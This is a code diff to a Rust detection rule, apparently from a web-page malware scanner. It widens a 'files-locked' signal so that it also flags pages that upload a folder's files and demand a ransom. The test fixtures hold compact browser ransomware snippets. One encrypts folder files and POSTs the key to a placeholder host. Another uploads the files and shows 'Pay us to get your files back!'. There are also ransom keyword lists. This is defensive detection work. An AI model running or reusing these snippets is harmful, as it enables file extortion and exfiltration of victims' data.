@@ -8,18 +8,20 @@ use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
     id: "files-locked",
-    description: "The page asks for a folder, encrypts the files in it and sends the key away or leaves a note.",
+    description: "The page asks for a folder, encrypts the files in it or takes them away, and sends the key away or asks for a ransom.",
     severity: Severity::High,
     classes: ClassSet::MALWARE,
-    needs: &[one(&[Atom::Encrypt])],
+    needs: &[one(&[Atom::Encrypt, Atom::FormContents])],
     within: 0,
     only_if: Some(locks),
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
             "const d=await showDirectoryPicker();for await(const h of d.values()){const b=await (await h.getFile()).arrayBuffer();const e=await crypto.subtle.encrypt(a,k,b);const w=await h.createWritable();await w.write(e)}fetch('https://k.example/',{method:'POST',body:await crypto.subtle.exportKey('raw',k)})",
+            "const d=await showDirectoryPicker();const f=new FormData();for await(const[n,h] of d.entries()){f.append('files',await h.getFile(),n)}const r=await fetch('/c',{method:'POST',body:f});const w=await(await d.getFileHandle('a.zip',{create:true})).createWritable();await w.write(await r.blob());title.textContent='Pay us to get your files back!'",
         ],
         without: &[
+            "const d=await showDirectoryPicker();const f=new FormData();for await(const[n,h] of d.entries()){f.append('files',await h.getFile(),n)}const r=await fetch('/zip',{method:'POST',body:f});const w=await(await d.getFileHandle('a.zip',{create:true})).createWritable();await w.write(await r.blob());title.textContent='Your files are packed'",
             "const d=await showDirectoryPicker();for await(const h of d.values()){list(h.name)}",
             "const f=await showOpenFilePicker();const e=await crypto.subtle.encrypt(a,k,await f.getFile());const w=await out.createWritable();await w.write(e)",
         ],
@@ -39,5 +41,15 @@ fn locks(evidence: &Evidence<'_>, held: Held) -> bool {
         .any(|at| near.is(at + 1, b'(') && near.kind(at + 2) == Some(Kind::Str) && near.is(at + 3, b','));
     let note =
         left && near.has_text(&["encrypted", "locked", "decrypt", "restore", "recover", "ransom", "bitcoin"]);
-    folder && near.has_word(&["values", "entries", "keys"]) && (key || note)
+    if !folder || !near.has_word(&["values", "entries", "keys"]) {
+        return false;
+    }
+    if Near::is_place_of(evidence, held, &[Atom::Encrypt]) {
+        return key || note;
+    }
+    let demanded = || {
+        near.has_text(&["pay us", "pay to", "ransom", "bitcoin"])
+            && near.has_text(&["files back", "your files", "decrypt", "hacked"])
+    };
+    near.has_fact(&[Atom::Post, Atom::PostMethod]) && demanded()
 }
